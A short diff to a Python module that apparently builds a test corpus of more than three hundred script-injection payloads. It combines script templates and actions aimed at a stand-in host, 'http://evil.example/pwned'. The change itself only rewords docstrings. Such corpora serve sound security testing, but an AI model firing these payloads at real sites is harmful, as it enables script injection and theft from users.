@@ -1,4 +1,4 @@
-"""Texts that try to run, load or navigate, in the ways that are known to work somewhere."""
+"""Texts that try to run, load or navigate, in ways known to work somewhere."""
 
 from itertools import product
 
@@ -95,7 +95,7 @@ ADDRESS = "http://evil.example/pwned"
 
 
 def every_payload() -> list[str]:
-    """Each way with each deed; more than three hundred."""
+    """Return each technique with each action; more than three hundred."""
     return [
         script.format(code=code.format(address=ADDRESS), address=ADDRESS)
         for script, code in product(SCRIPTS, CODES)
